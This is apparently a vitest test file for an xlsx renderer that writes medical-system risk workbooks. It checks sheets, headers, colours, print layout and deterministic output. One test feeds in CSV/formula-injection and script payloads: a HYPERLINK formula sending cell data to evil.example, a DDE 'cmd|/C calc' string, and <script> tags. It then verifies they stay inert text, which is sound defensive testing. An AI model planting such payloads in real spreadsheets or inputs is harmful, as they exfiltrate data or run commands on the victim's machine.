// The report workbook (risks.xlsx): read back with exceljs, sheet by sheet, in both languages; hostile
// text stays text; the same view gives the same bytes whatever the clock says.
import { createRequire } from 'node:module';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { Cell, Workbook, Worksheet } from 'exceljs';
import type { ReportView } from '../models/report.js';
import type { Lang } from '../models/vocabulary.js';
import { displayWidth, reportXlsx } from '../renderers/xlsx/report.js';
import { layoutSheet, MAX_ROW_POINTS, MIN_SCALE, PAPERS, rememberedHeight, textHeight, textUnits, UNIT_POINTS, wrap } from '../renderers/xlsx/layout.js';
import { SHEET_NAMES as XLSX_SHEETS } from '../src/report/report.js';
import { buildReport, loadModel, type SourceHost } from '../src/index.js';
import { diskHost } from '../src/io/disk.js';
import { memoryHost } from './helpers/memory-host.js';
import { unzip } from './helpers/unzip.js';

const ExcelJS = createRequire(import.meta.url)('exceljs') as typeof import('exceljs');

async function viewOf(path: string, lang: Lang, host: SourceHost = diskHost): Promise<ReportView> {
  const loaded = loadModel(path, host);
  if (!loaded.model) throw new Error(`${path} does not load: ${JSON.stringify(loaded.diagnostics)}`);
  return (await buildReport(loaded.model, { lang })).view;
}

async function read(bytes: Uint8Array): Promise<Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return workbook;
}


const headerOf = (ws: Worksheet): unknown[] => (ws.getRow(1).values as unknown[]).slice(1);
const sheet = (wb: Workbook, name: string): Worksheet => {
  const ws = wb.getWorksheet(name);
  if (!ws) throw new Error(`no sheet ${name}`);
  return ws;
};
/** The row (from 2) whose first cell is `id`. */
const rowWith = (ws: Worksheet, column: number, text: string): number => {
  for (let r = 2; r <= ws.rowCount; r++) if (ws.getRow(r).getCell(column).value === text) return r;
  throw new Error(`no row with ${text} in ${ws.name}`);
};
const fillOf = (cell: Cell): string | undefined => (cell.fill?.type === 'pattern' ? cell.fill.fgColor?.argb : undefined);
const flowRows = (view: ReportView): number => view.flows.sections.reduce((n, s) => n + s.rows.length + s.media.length, 0);

describe('sheet names', () => {
  it('are valid Excel sheet names, unique per language', () => {
    for (const lang of ['ja', 'en'] as const) {
      const names = Object.values(XLSX_SHEETS[lang]);
      expect(new Set(names).size).toBe(names.length);
      for (const name of names) {
        expect(name.length, name).toBeLessThanOrEqual(31);
        expect(name, name).not.toMatch(/[[\]:*?/\\]/);
        expect(name, name).not.toMatch(/^'|'$/);
      }
    }
  });
});

describe('the cloud-EHR workbook', async () => {
  const views = { ja: await viewOf('examples/cloud-ehr/model.yaml', 'ja'), en: await viewOf('examples/cloud-ehr/model.yaml', 'en') };
  const books = { ja: await read(await reportXlsx(views.ja)), en: await read(await reportXlsx(views.en)) };

  for (const lang of ['ja', 'en'] as const) {
    const view = views[lang];
    const wb = books[lang];
    const names = XLSX_SHEETS[lang];

    it(`${lang}: has the sheets in order`, () => {
      const expected: string[] = [names.flows, names.threats, names.responses, names.requests, names.agree, names.checklist, names.open];
      if (view.responses.orphaned.length > 0) expected.push(names.orphaned);
      expect(wb.worksheets.map((ws) => ws.name)).toEqual(expected);
    });

    it(`${lang}: each sheet has a frozen, bold, filled header row and a filter over its data`, () => {
      for (const ws of wb.worksheets) {
        expect(ws.views[0], ws.name).toMatchObject({ state: 'frozen', ySplit: 1 });
        const last = ws.getRow(1).cellCount;
        const ref = `A1:${ws.getColumn(last).letter}${Math.max(ws.rowCount, 1)}`;
        expect(ws.autoFilter, ws.name).toBe(ref);
        const first = ws.getRow(1).getCell(1);
        expect(first.font?.bold, ws.name).toBe(true);
        expect(fillOf(first), ws.name).toMatch(/^FF[0-9A-F]{6}$/);
        for (let c = 1; c <= last; c++) {
          const width = ws.getColumn(c).width ?? 0;
          expect(width, `${ws.name} column ${c}`).toBeGreaterThanOrEqual(6);
          expect(width, `${ws.name} column ${c}`).toBeLessThanOrEqual(100);
        }
      }
    });

    it(`${lang}: has one row per flow and medium, risk, response, request, requirement and open risk`, () => {
      const rows = (name: string): number => sheet(wb, name).rowCount - 1;
      expect(rows(names.flows)).toBe(flowRows(view));
      expect(rows(names.threats)).toBe(view.threats.rows.length);
      expect(rows(names.responses)).toBe(view.responses.rows.length);
      expect(rows(names.requests)).toBe(view.requests.reduce((n, g) => n + g.items.length, 0));
      expect(rows(names.checklist)).toBe(view.checklist.items.length);
      expect(rows(names.open)).toBe(view.open.length);
      expect(view.threats.rows.length).toBeGreaterThan(20);
      expect(view.checklist.items.length).toBeGreaterThan(0);
    });

    it(`${lang}: the risk list has the CSV's columns, and each risk's words`, () => {
      const h = view.threats.headings;
      const ws = sheet(wb, names.threats);
      expect(headerOf(ws)).toEqual([
        h.id, h.rank, h.level, h.phase, h.form, h.segment, h.flows, h.dataClass, h.threat, h.risk, h.cia, h.impact, h.likelihood, h.need,
        h.who, h.human, h.physical, h.technical, h.references, h.reasons,
      ]);
      view.threats.rows.forEach((r, i) => {
        const row = ws.getRow(i + 2);
        expect(row.getCell(1).value).toBe(r.id);
        expect(row.getCell(2).value).toBe(r.rank);
        expect(row.getCell(3).value).toBe(r.level);
        expect(row.getCell(10).value).toBe(r.cells.risk);
        expect(row.getCell(15).value).toBe(r.cells.who);
        expect(row.getCell(18).value).toBe(r.countermeasures.technical.join('\n'));
      });
      expect(headerOf(sheet(wb, names.open))).toEqual(headerOf(ws));
      // The risks to agree on are the risk list's rows for them, in the same columns.
      const agree = sheet(wb, names.agree);
      expect(headerOf(agree)).toEqual(headerOf(ws));
      expect(view.agree.length).toBeGreaterThan(0);
      view.agree.forEach((r, i) => { expect(agree.getRow(i + 2).getCell(1).value).toBe(r.id); });
    });

    it(`${lang}: the other sheets have their headers`, () => {
      const w = view.words;
      const f = view.flows.headings;
      expect(headerOf(sheet(wb, names.flows))).toEqual([view.threats.headings.form, view.threats.headings.phase, f.who, f.where, f.which, f.what, f.how, f.from, f.to, f.encrypted, f.id]);
      expect(headerOf(sheet(wb, names.responses))).toEqual([w['riskId'], w['rank'], w['title'], w['decision'], w['measures'], w['residual'], w['rationale'], w['agreedWith'], w['date'], w['where']]);
      expect(headerOf(sheet(wb, names.requests))).toEqual([w['category'], w['measures'], w['owner'], w['risks']]);
      expect(headerOf(sheet(wb, names.checklist))).toEqual([w['item'], w['requirement'], w['status'], w['evidence'], w['reference'], 'ID']);
    });

    it(`${lang}: ranks are coloured letters, checklist statuses coloured words`, () => {
      const ws = sheet(wb, names.threats);
      const colours = new Map<string, string | undefined>();
      for (let r = 2; r <= ws.rowCount; r++) {
        const cell = ws.getRow(r).getCell(2);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        colours.set(String(cell.value), fillOf(cell));
      }
      expect(colours.get('S')).toBe('FFC62828');
      expect(colours.get('A')).toBe('FFF57C00');
      expect(new Set(colours.values()).size).toBe(colours.size);
      const checklist = sheet(wb, names.checklist);
      const tones = { met: 'FFC6EFCE', 'not-met': 'FFFFC7CE', 'not-applicable': 'FFE7E6E6' } as const;
      view.checklist.items.forEach((item, i) => {
        const cell = checklist.getRow(i + 2).getCell(3);
        expect(cell.value).toBe(item.cells.status);
        expect(fillOf(cell)).toBe(tones[item.status]);
      });
    });
  }

  it('sizes columns by display width: full-width characters count two', () => {
    expect(displayWidth('医療情報')).toBe(8);
    expect(displayWidth('ＩＣカード')).toBe(10);
    expect(displayWidth('abc')).toBe(3);
    // The form in Japanese ("アプリケーション") needs a wider column than the same column in English ("application").
    const ja = sheet(books.ja, XLSX_SHEETS.ja.flows).getColumn(1).width ?? 0;
    const en = sheet(books.en, XLSX_SHEETS.en.flows).getColumn(1).width ?? 0;
    expect(ja).toBeGreaterThan(en);
    // Long text wraps in a capped column, in a row as tall as its lines.
    const threats = sheet(books.ja, XLSX_SHEETS.ja.threats);
    const risk = threats.getRow(2).getCell(10);
    expect(risk.alignment?.wrapText).toBe(true);
    const width = threats.getColumn(10).width ?? 0;
    expect(textUnits(String(risk.value))).toBeGreaterThan(width);
    expect(threats.getRow(2).height).toBeGreaterThanOrEqual(textHeight(String(risk.value), width) + 4);
  });

  it('is byte-identical whatever the time (fixed document dates, normalised zip times)', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2031-05-06T07:08:09Z'));
    const one = await reportXlsx(views.ja);
    vi.setSystemTime(new Date('2042-12-31T23:59:58Z'));
    const two = await reportXlsx(views.ja);
    vi.useRealTimers();
    expect(Buffer.from(two).equals(Buffer.from(one))).toBe(true);
    const wb = await read(one);
    expect(wb.creator).toBe('koseizu');
    expect(wb.created.toISOString()).toBe('1980-01-01T00:00:00.000Z');
    expect(wb.modified.toISOString()).toBe('1980-01-01T00:00:00.000Z');
  });
});

afterEach(() => vi.useRealTimers());

describe('the minimal workbook (with a response)', () => {
  it('lists the response, its measures and what the institution is asked to do', async () => {
    const view = await viewOf('examples/minimal/model.yaml', 'en');
    expect(view.responses.rows.length).toBeGreaterThan(0);
    const wb = await read(await reportXlsx(view));
    const responses = sheet(wb, XLSX_SHEETS.en.responses);
    expect(responses.rowCount - 1).toBe(view.responses.rows.length);
    view.responses.rows.forEach((r, i) => {
      const row = responses.getRow(i + 2);
      expect(row.getCell(1).value).toBe(r.riskId);
      expect(row.getCell(2).value).toBe(r.rank);
      expect(row.getCell(5).value).toBe(r.cells.measures.join('\n'));
      expect(row.getCell(6).value).toBe(r.cells.residual);
      expect(row.getCell(9).value).toBe(r.cells.date);
    });
    const requests = sheet(wb, XLSX_SHEETS.en.requests);
    expect(requests.getRow(2).values).toEqual([undefined, 'human / organisational', 'Lock the back office when nobody is there', 'medical institution', view.requests[0]?.items[0]?.risks.join('\n')]);
  });
});

describe('hostile text', () => {
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const model = `koseizu: 1
system: {id: hostile, title: "<script>alert(1)</script>", forms: [application], phases: [operation], lang: ja}
sites:
  - {id: clinic, label: "+cmd|' /C calc'!A0", owner: institution, country: JP}
locations:
  - {id: reception, label: "@SUM(1+1)", site: clinic}
  - {id: back-office, label: "-2+3", site: clinic, controls: [locked]}
actors:
  - {id: clerk, label: '${evil.replace(/'/g, "''")}', org: institution}
data:
  - {id: notes, label: "<script>alert(1)</script>", class: medical}
devices:
  - {id: pc, label: "=1+1", kind: terminal, at: reception, auth: [password]}
  - {id: server, label: "=cmd()", kind: server, at: back-office, roles: [process, store]}
networks:
  - {id: lan, label: LAN, kind: lan}
links:
  - {from: pc, to: server, network: lan, protocol: https, tls: "1.3"}
media:
  - {id: disk, label: "=disk", kind: external-hdd, from: back-office, to: reception, carrier: clerk, encrypted: false, data: [notes]}
flows:
  - {id: take-notes, label: "-take notes", phase: operation, who: clerk, where: reception, which: pc, what: [notes], how: [view, edit], path: [pc, server]}
responses:
  - risk: "*@take-notes/*"
    decision: reduce
    measures:
      - {category: human, owner: institution, text: "=HYPERLINK(\\"http://evil.example\\")"}
      - {category: technical, owner: provider, text: "<b>bold</b>"}
      - {category: physical, owner: both, text: "-2+3"}
    rationale: "+1 reason"
    agreed-with: "@director"
    date: 2026-01-02
  - {risk: "nothing@none/*", decision: accept, rationale: orphan}
`;
  const host = memoryHost({ 'model.yaml': model });

  it('stays a string: read back as text, never written as a formula', async () => {
    const view = await viewOf('model.yaml', 'ja', host);
    expect(view.responses.orphaned.length).toBe(1);
    const bytes = await reportXlsx(view);
    const wb = await read(bytes);
    expect(wb.worksheets.map((ws) => ws.name).at(-1)).toBe(XLSX_SHEETS.ja.orphaned);
    expect(sheet(wb, XLSX_SHEETS.ja.orphaned).getRow(2).getCell(1).value).toBe('nothing@none/*');

    const risky = /^[=+\-@]|<script>|<b>/;
    let seen = 0;
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((cell) => {
        expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined();
        expect(cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.Number, `${ws.name}!${cell.address}`).toBe(true);
        if (typeof cell.value === 'string' && risky.test(cell.value)) seen++;
      }));
    }
    expect(seen).toBeGreaterThan(5);
    const flows = sheet(wb, XLSX_SHEETS.ja.flows);
    expect(flows.getRow(2).getCell(3).value).toBe(`${evil}が`);
    expect(flows.getRow(2).getCell(5).value).toBe('=1+1で');
    expect(flows.getRow(3).getCell(5).value).toBe(`=disk（${view.flows.sections[0]?.media[0]?.kind ?? ''}）`);
    const responses = sheet(wb, XLSX_SHEETS.ja.responses);
    const r = rowWith(responses, 1, view.responses.rows[0]?.riskId ?? '');
    expect(responses.getRow(r).getCell(7).value).toBe('+1 reason');
    expect(responses.getRow(r).getCell(8).value).toBe('@director');
    expect(responses.getRow(r).getCell(9).value).toBe('2026-01-02');
    expect(sheet(wb, XLSX_SHEETS.ja.requests).getRow(2).getCell(2).value).toBe('=HYPERLINK("http://evil.example")');

    // In the XML itself: no formula element anywhere, and markup escaped in the shared strings.
    const files = unzip(bytes);
    const sheetsXml = [...files].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(sheetsXml.length).toBe(wb.worksheets.length);
    for (const [name, xml] of sheetsXml) expect(xml, name).not.toMatch(/<f[ >]/);
    const strings = files.get('xl/sharedStrings.xml') ?? '';
    expect(strings).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(strings).not.toContain('<script>');
    expect(files.get('docProps/core.xml')).toContain('&lt;script&gt;');
  });
});

/** How a sheet prints, as its XML says: the page setup, the column breaks, the print titles, header and footer. */
interface PrintSetup {
  readonly name: string;
  readonly paper: string | undefined;
  readonly orientation: string | undefined;
  /** <sheetPr><pageSetUpPr fitToPage="1"/>: without it, fitToWidth is ignored and `scale` prints. */
  readonly fitToPage: boolean;
  readonly setup: Readonly<Record<string, string>>;
  readonly breaks: readonly number[];
  readonly manual: boolean;
  readonly titles: string | undefined;
  readonly header: string | undefined;
  readonly footer: string | undefined;
  readonly margins: Readonly<Record<string, string>>;
  readonly gridLines: boolean;
  readonly widths: readonly number[];
}

const attributes = (text: string | undefined): Record<string, string> => Object.fromEntries([...(text ?? '').matchAll(/([\w:]+)="([^"]*)"/g)].map((m) => [m[1], m[2]]));
const unescapeXml = (text: string): string => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');

function printSetups(bytes: Uint8Array, names: readonly string[]): PrintSetup[] {
  const files = unzip(bytes);
  const workbook = files.get('xl/workbook.xml') ?? '';
  return names.map((name, i) => {
    const xml = files.get(`xl/worksheets/sheet${i + 1}.xml`) ?? '';
    const breaks = [...(/<colBreaks[^>]*>(.*?)<\/colBreaks>/.exec(xml)?.[1] ?? '').matchAll(/<brk ([^>]*)\/>/g)].map((m) => attributes(m[1]));
    const setup = attributes(/<pageSetup ([^>]*)\/>/.exec(xml)?.[1]);
    const titles = new RegExp(`<definedName name="_xlnm.Print_Titles" localSheetId="${i}">([^<]*)</definedName>`).exec(workbook)?.[1];
    return {
      name,
      paper: setup['paperSize'],
      orientation: setup['orientation'],
      fitToPage: /<sheetPr>.*<pageSetUpPr fitToPage="1"\/>.*<\/sheetPr>/.test(xml),
      setup,
      breaks: breaks.map((b) => Number(b['id'])),
      manual: breaks.every((b) => b['man'] === '1' && b['max'] === '1048575'),
      titles: titles === undefined ? undefined : unescapeXml(titles),
      header: ((h) => (h === undefined ? undefined : unescapeXml(h)))(/<oddHeader>([^<]*)<\/oddHeader>/.exec(xml)?.[1]),
      footer: ((h) => (h === undefined ? undefined : unescapeXml(h)))(/<oddFooter>([^<]*)<\/oddFooter>/.exec(xml)?.[1]),
      margins: attributes(/<pageMargins ([^>]*)\/>/.exec(xml)?.[1]),
      gridLines: attributes(/<printOptions ([^>]*)\/>/.exec(xml)?.[1])['gridLines'] === '1',
      widths: [...xml.matchAll(/<col ([^>]*)\/>/g)].flatMap((m) => {
        const a = attributes(m[1]);
        return Array.from({ length: Number(a['max']) - Number(a['min']) + 1 }, () => Number(a['width']));
      }),
    };
  });
}

/** Points of a page's width left for the columns (A3 landscape 1190.55 pt, A4 841.89 / 595.28, less 0.4 in a side). */
const printable = (paper: string | undefined, orientation: string | undefined): number =>
  (paper === '8' ? 1190.55 : orientation === 'landscape' ? 841.89 : 595.28) - 0.8 * 72;

describe('the print layout (layout.ts): widths, wrapping, paper', () => {
  it('measures text in column units: a full-width character 2.15 (11 pt in Excel\'s 5.25 pt unit), Latin by letter', () => {
    expect(textUnits('ランク')).toBeCloseTo(6.45);
    expect(textUnits('0000')).toBeCloseTo(4.2);
    expect(textUnits('iiii')).toBeLessThan(textUnits('MMMM'));
    expect(textUnits('Rank', true)).toBeGreaterThan(textUnits('Rank'));
    expect(textUnits('ランク', true)).toBeCloseTo(textUnits('ランク'));
  });

  it('wraps as a spreadsheet does, never more tightly: Japanese anywhere but by kinsoku, Latin at spaces and after hyphens', () => {
    expect(wrap('極めて大きい', 12.9)).toEqual(['極めて大きい']);
    expect(wrap('極めて大きい', 12.8)).toEqual(['極めて大き', 'い']);
    // No line starts with a closing mark or ends with an opening one.
    const kinsoku = wrap('対象事業者（電子カルテ）、医療機関等。ほか', 6.45);
    for (const line of kinsoku) {
      expect(line, kinsoku.join('|')).not.toMatch(/^[、。）]/u);
      expect(line, kinsoku.join('|')).not.toMatch(/（$/u);
    }
    expect(kinsoku.join('')).toBe('対象事業者（電子カルテ）、医療機関等。ほか');
    expect(wrap('several measures required', 12)).toEqual(['several', 'measures', 'required']);
    expect(wrap('auth-single-factor@billing-terminal', 16)).toEqual(['auth-single-', 'factor@billing-', 'terminal']);
    // A word longer than the line is cut; every line fits.
    const long = wrap('x'.repeat(30), 10);
    expect(long.join('')).toBe('x'.repeat(30));
    for (const line of long) expect(textUnits(line)).toBeLessThanOrEqual(10);
    expect(wrap('a\nb', 10)).toEqual(['a', 'b']);
    // Heights: 16.5 pt a Japanese line (LibreOffice's Noto Sans CJK sets 16), 15 a Latin one (Excel's Calibri).
    expect(textHeight('極めて大きい', 6)).toBe(3 * 16.5);
    expect(textHeight('several measures required', 13)).toBe(3 * 15);
  });

  const sheetOf = (widths: number[], starts: number[] = [], rows: string[][] = []): Parameters<typeof layoutSheet>[0] => ({ widths, starts, titles: 2, rows, widest: 100 });
  it('prints one page wide on the smallest paper that keeps the text at MIN_SCALE or larger', () => {
    const at = (units: number): string => {
      const { layout } = layoutSheet(sheetOf([units / 2, units / 2]));
      expect(layout.fit).toBe(true);
      expect(layout.scale).toBeGreaterThanOrEqual(MIN_SCALE);
      return `${layout.paper.name} ${layout.paper.orientation}`;
    };
    expect(at(60)).toBe('A4 portrait');
    expect(at(120)).toBe('A4 landscape');
    expect(at(200)).toBe('A3 landscape');
    expect(PAPERS.map((p) => p.code)).toEqual([9, 9, 8]);
  });

  it('splits a wider sheet into pages across at the allowed columns only, each page fitting at the scale it prints at', () => {
    const long = 'リスクの説明が長く続く文章。'.repeat(12);
    const widths = [24, 10, 40, 40, 40, 40, 30, 30, 30, 30, 40];
    const rows = Array.from({ length: 8 }, (_, r) => widths.map((_, c) => (c === 10 || c === 6 ? `${long}${r}` : `短い${c}`)));
    const { widths: out, layout } = layoutSheet(sheetOf(widths, [2, 4, 6, 8, 10], rows));
    expect(layout.fit).toBe(false);
    expect(layout.paper.name).toBe('A3');
    expect(layout.scale).toBeGreaterThanOrEqual(MIN_SCALE);
    expect(layout.breaks.length).toBeGreaterThan(0);
    for (const b of layout.breaks) expect([4, 6, 8, 10]).toContain(b);
    // Widths only grow, and only where text wraps; every page across holds its columns and the key columns.
    out.forEach((w, c) => { expect(w, `column ${c}`).toBeGreaterThanOrEqual(widths[c] ?? 0); });
    out.forEach((w, c) => { if (c !== 6 && c !== 10) expect(w, `column ${c}`).toBe(widths[c]); });
    const pages = [2, ...layout.breaks, out.length];
    for (let p = 0; p + 1 < pages.length; p++) {
      const units = 24 + 10 + out.slice(pages[p], pages[p + 1]).reduce((a, b) => a + b, 0);
      expect(units * UNIT_POINTS * (layout.scale / 100)).toBeLessThanOrEqual(1190.55 - 0.8 * 72);
    }
  });
});

describe('rememberedHeight (the heights the workbook lays out with)', () => {
  it('gives textHeight\'s height for every text at every width, those that fit without wrapping them included', () => {
    const texts = [
      '', 'a', ' ', '   leading spaces', 'trailing spaces   ', 'several measures required', 'アクセス制御', '極めて大きい',
      '影響:\n機微な診療情報（要配慮個人情報）を含む\n発生可能性:\nインターネット経由', 'VPN（IPsec）で暗号化する', 'one\n\ntwo\n',
      'a-very-long-hyphenated/slashed-word-without-spaces', 'MMMMWWWW@@@%%%&&&', '「括弧」、句読点。ー～', 'Who（誰が）',
      'mixed 日本語 and English text, wrapped at spaces and between full-width characters',
    ];
    const height = rememberedHeight();
    let fits = 0;
    for (const text of texts) {
      for (let width = 2; width <= 70; width++) {
        // Asked twice: the second answer is the remembered one.
        expect(height(text, width), `${JSON.stringify(text)} at ${width}`).toBe(textHeight(text, width));
        expect(height(text, width), `${JSON.stringify(text)} at ${width}, again`).toBe(textHeight(text, width));
        if (Math.max(...text.split('\n').map((p) => textUnits(p))) < width - 1) fits++;
      }
    }
    // Both paths were taken: texts that fit their width (not wrapped) and texts that wrap.
    expect(fits).toBeGreaterThan(100);
    expect(fits).toBeLessThan(texts.length * 69);
  });
});

describe('risks.xlsx on paper (the page setup in its XML)', async () => {
  const view = await viewOf('examples/cloud-ehr/model.yaml', 'ja');
  const names = [view.sheets.flows, view.sheets.threats, view.sheets.responses, view.sheets.requests, view.sheets.agree, view.sheets.checklist, view.sheets.open];
  const bytes = await reportXlsx(view);
  const setups = printSetups(bytes, names);
  const wb = await read(bytes);

  it('every sheet: A4 or A3, a header with the title and the sheet name, a footer "page / pages", the header row on every page, the grid', () => {
    for (const s of setups) {
      expect(['8', '9'], s.name).toContain(s.paper);
      expect(['portrait', 'landscape'], s.name).toContain(s.orientation);
      expect(s.header, s.name).toBe(`&L${view.title}&R&A`);
      expect(s.footer, s.name).toBe('&C&P / &N');
      expect(s.titles, s.name).toMatch(new RegExp(`'${s.name}'!\\$1:\\$1$`));
      expect(s.margins, s.name).toEqual({ left: '0.4', right: '0.4', top: '0.6', bottom: '0.6', header: '0.25', footer: '0.25' });
      expect(s.gridLines, s.name).toBe(true);
    }
  });

  it('a sheet one page wide is scaled to the page by the spreadsheet: fitToPage, one page wide, as many down as it takes', () => {
    const fit = setups.filter((s) => s.breaks.length === 0 && s.titles?.includes('$A:$B') !== true);
    expect(fit.map((s) => s.name)).toEqual([view.sheets.flows, view.sheets.responses, view.sheets.requests, view.sheets.checklist]);
    for (const s of fit) {
      expect(s.fitToPage, s.name).toBe(true);
      expect(s.setup, s.name).toMatchObject({ fitToWidth: '1', fitToHeight: '0' });
      // At the widest unit a reader's spreadsheet may have (7 pt), the sheet still prints at MIN_SCALE or larger.
      const units = s.widths.reduce((a, b) => a + b, 0);
      expect(printable(s.paper, s.orientation) / (units * UNIT_POINTS), s.name).toBeGreaterThanOrEqual(MIN_SCALE / 100);
    }
    const paper = (name: string): string => { const s = setups.find((x) => x.name === name); return `${s?.paper} ${s?.orientation}`; };
    expect(paper(view.sheets.requests)).toBe('9 portrait');
    expect(paper(view.sheets.checklist)).toBe('9 landscape');
    expect(paper(view.sheets.flows)).toBe('8 landscape');
  });

  it('a risk list prints on A3 landscape in pages across: a fixed scale, manual column breaks, the risk id and rank repeated', () => {
    for (const name of [view.sheets.threats, view.sheets.agree, view.sheets.open]) {
      const s = setups.find((x) => x.name === name);
      if (!s) throw new Error(name);
      expect(s.fitToPage, name).toBe(false);
      expect(s.paper, name).toBe('8');
      expect(s.orientation, name).toBe('landscape');
      expect(Number(s.setup['scale']), name).toBeGreaterThanOrEqual(MIN_SCALE);
      expect(s.setup['pageOrder'], name).toBe('overThenDown');
      expect(s.titles, name).toBe(`'${name}'!$A:$B,'${name}'!$1:$1`);
      expect(s.breaks.length, name).toBeGreaterThan(0);
      expect(s.manual, name).toBe(true);
      // Pages start where the list's parts do (the grades, who acts, the countermeasures, the references), and
      // each page, with the key columns, fits the paper at its scale in the widest unit.
      for (const b of s.breaks) expect([11, 13, 15, 18], name).toContain(b);
      const starts = [2, ...s.breaks, s.widths.length];
      for (let p = 0; p + 1 < starts.length; p++) {
        const units = (s.widths[0] ?? 0) + (s.widths[1] ?? 0) + s.widths.slice(starts[p], starts[p + 1]).reduce((a, b) => a + b, 0);
        expect(units * UNIT_POINTS * (Number(s.setup['scale']) / 100), `${name} page ${p + 1}`).toBeLessThanOrEqual(printable(s.paper, s.orientation));
      }
    }
    // The whole list: two pages across at 70 %.
    const threats = setups.find((x) => x.name === view.sheets.threats);
    expect(threats?.breaks.length).toBe(1);
    expect(threats?.setup['scale']).toBe('70');
  });

  it('keeps short words whole: a rank, a level, a grade, a phase, a form, a segment, and every header word, fit their column', () => {
    for (const name of [view.sheets.threats, view.sheets.agree]) {
      const ws = sheet(wb, name);
      const header = headerOf(ws).map(String);
      for (const c of [2, 3, 4, 5, 6, 12, 13]) {
        const width = ws.getColumn(c).width ?? 0;
        for (let r = 1; r <= ws.rowCount; r++) {
          const value = String(ws.getRow(r).getCell(c).value ?? '');
          // A list ("開発・運用", "development, operation") may wrap between its items, never inside one.
          for (const word of value.split(/\s+|・|,/u).filter(Boolean)) expect(wrap(word, width - 1, r === 1), `${name} ${header[c - 1]}: ${word}`).toHaveLength(1);
        }
      }
      header.forEach((h, i) => {
        const width = ws.getColumn(i + 1).width ?? 0;
        for (const word of h.split(/\s+|(?=[（(])/u)) expect(wrap(word, width - 3, true), `${name}: ${word}`).toHaveLength(1);
      });
    }
    const threats = sheet(wb, view.sheets.threats);
    const values = (c: number): string[] => Array.from({ length: threats.rowCount }, (_, r) => String(threats.getRow(r + 1).getCell(c).value));
    expect(values(2)).toContain('ランク');
    expect(values(3)).toContain('リスクレベル');
    expect(values(12)).toContain('5 極めて大きい');
  });

  it('gives every row the height of its tallest cell wrapped to its column, none above Excel\'s tallest row', () => {
    let rows = 0;
    for (const ws of wb.worksheets) {
      const widths = headerOf(ws).map((_, i) => ws.getColumn(i + 1).width ?? 0);
      ws.eachRow((row, n) => {
        if (n === 1) return;
        rows++;
        const tallest = Math.max(...widths.map((w, i) => textHeight(String(row.getCell(i + 1).value ?? ''), w)));
        expect(row.height, `${ws.name} row ${n}`).toBeGreaterThanOrEqual(tallest + 4);
        expect(row.height, `${ws.name} row ${n}`).toBeLessThan(MAX_ROW_POINTS);
      });
    }
    expect(rows).toBeGreaterThan(100);
  });

  it('writes the title into the page header as text: an & is doubled, never an Excel code', async () => {
    const model = `koseizu: 1
system: {id: r-and-d, title: "R&D &P <lab>", forms: [application], phases: [operation], lang: en}
sites:
  - {id: lab, label: Lab, owner: institution, country: JP}
locations:
  - {id: room, label: Room, site: lab}
actors:
  - {id: staff, label: Staff, org: institution}
data:
  - {id: notes, label: Notes, class: medical}
devices:
  - {id: pc, label: PC, kind: terminal, at: room, auth: [password]}
flows:
  - {id: take-notes, label: Take notes, phase: operation, who: staff, where: room, which: pc, what: [notes], how: [view], path: [pc]}
`;
    const v = await viewOf('model.yaml', 'en', memoryHost({ 'model.yaml': model }));
    const [flows] = printSetups(await reportXlsx(v), [v.sheets.flows]);
    expect(flows?.header).toBe(`&L${v.title.replace(/&/g, '&&')}&R&A`);
    expect(flows?.header).toContain('R&&D &&P <lab>');
  });
});
